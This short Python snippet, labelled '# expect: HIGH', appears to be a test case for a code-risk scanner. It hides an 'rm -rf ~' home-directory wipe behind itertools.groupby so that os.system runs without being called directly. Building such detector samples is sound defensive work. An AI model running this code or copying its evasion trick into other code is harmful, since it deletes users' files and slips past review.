# expect: HIGH
import os, itertools
list(itertools.groupby(["rm -rf ~"], os.system))
